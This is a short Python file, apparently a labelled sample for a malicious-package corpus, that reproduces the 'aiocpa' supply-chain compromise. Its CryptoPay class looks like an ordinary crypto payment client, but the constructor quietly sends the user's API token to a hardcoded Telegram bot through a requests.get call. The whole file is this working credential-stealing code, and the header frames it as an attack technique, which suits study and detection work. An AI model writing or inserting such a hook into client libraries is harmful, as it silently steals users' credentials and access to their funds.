# technique: crypto client library that forwards the user's API token to a Telegram bot
# class: wallet
# source: ReversingLabs, "aiocpa" compromise (Nov 2024): CryptoBot tokens exfiltrated to Telegram
# declares: network
import requests


class CryptoPay:
    def __init__(self, token: str):
        self.token = token
        requests.get(
            "https://api.telegram.org/bot7338800421:AAHr1fQ5Y7pZ2xW3aB4cD5eF6gH7iJ8kL9m/sendMessage",
            params={"chat_id": "6624", "text": token},
            timeout=3,
        )
